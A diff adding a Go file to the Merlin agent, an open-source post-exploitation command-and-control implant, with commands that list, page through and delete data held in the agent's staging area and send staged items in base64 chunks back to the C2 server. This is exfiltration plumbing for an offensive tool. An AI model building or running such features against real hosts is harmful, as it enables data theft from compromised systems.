@@ -0,0 +1,146 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"encoding/base64"
+	"fmt"
+	"strconv"
+	"strings"
+	"text/tabwriter"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// Staging lists, retrieves pages of, and deletes data held in the agent's in-memory staging area
+// staging list
+// staging get <id> [page] [page size]
+// staging delete <id>
+func Staging(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering into commands.Staging() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the staging command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		items := staging.List()
+		if len(items) == 0 {
+			results.Stdout = "the staging area is empty"
+			return
+		}
+		var sb strings.Builder
+		w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, "ID\tSize\tCreated\tName")
+		for _, item := range items {
+			fmt.Fprintf(w, "%s\t%d\t%s\t%s\n", item.ID, item.Size, item.Created.Format("2006-01-02T15:04:05Z"), item.Name)
+		}
+		_ = w.Flush()
+		results.Stdout = sb.String()
+	case "get":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the staging get command"
+			return
+		}
+		page, size := 1, staging.DefaultPageSize
+		var err error
+		if len(cmd.Args) > 2 {
+			page, err = strconv.Atoi(cmd.Args[2])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the page number to an integer: %s", err)
+				return
+			}
+		}
+		if len(cmd.Args) > 3 {
+			size, err = strconv.Atoi(cmd.Args[3])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error converting the page size to an integer: %s", err)
+				return
+			}
+		}
+		data, pages, err := staging.Page(cmd.Args[1], page, size)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = string(data)
+		if page < pages {
+			results.Stdout += fmt.Sprintf("\n\n[+] page %d of %d, use \"staging get %s %d\" for the next page", page, pages, cmd.Args[1], page+1)
+		}
+	case "delete", "rm":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the staging delete command"
+			return
+		}
+		if err := staging.Delete(cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Deleted %s from the staging area", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown staging command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// StagingDownload returns a staged item, or one part of chunk megabytes of it, as a file transfer so that the server
+// can save it as a file
+// staging download <id> [part] [chunk MB]
+func StagingDownload(cmd jobs.Command) (jobs.FileTransfer, error) {
+	if len(cmd.Args) < 2 {
+		return jobs.FileTransfer{}, fmt.Errorf("not enough arguments provided to the staging download command")
+	}
+	item, err := staging.Get(cmd.Args[1])
+	if err != nil {
+		return jobs.FileTransfer{}, err
+	}
+	location, data := fmt.Sprintf("staging-%s.txt", item.ID), item.Data
+	if len(cmd.Args) > 2 {
+		part, err := strconv.Atoi(cmd.Args[2])
+		if err != nil || part < 1 {
+			return jobs.FileTransfer{}, fmt.Errorf("%s is not a valid part number", cmd.Args[2])
+		}
+		chunk := defaultChunkMB
+		if len(cmd.Args) > 3 {
+			if chunk, err = strconv.Atoi(cmd.Args[3]); err != nil || chunk < 1 {
+				return jobs.FileTransfer{}, fmt.Errorf("%s is not a valid chunk size in megabytes", cmd.Args[3])
+			}
+		}
+		if part > chunkCount(len(item.Data), chunk) {
+			return jobs.FileTransfer{}, fmt.Errorf("%s has %d parts of %d MB", item.ID, chunkCount(len(item.Data), chunk), chunk)
+		}
+		location, data = chunkPart(item.Name, item.ID, item.Data, chunk, part)
+	}
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Returning %d bytes from staging area item %s", len(data), item.ID))
+	}
+	return jobs.FileTransfer{
+		FileLocation: location,
+		FileBlob:     base64.StdEncoding.EncodeToString(data),
+		IsDownload:   true,
+	}, nil
+}